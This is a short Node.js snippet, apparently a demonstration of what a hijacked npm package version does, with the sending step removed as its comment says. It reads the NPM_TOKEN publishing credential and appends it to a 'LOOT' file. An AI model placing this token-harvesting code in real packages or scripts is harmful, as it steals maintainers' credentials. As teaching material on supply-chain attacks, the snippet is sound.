// What a hijacked version does, without the part that sends it anywhere.
const { appendFileSync } = require('node:fs');
appendFileSync(process.env.LOOT, `${process.env.NPM_TOKEN ?? 'nothing'}\n`);
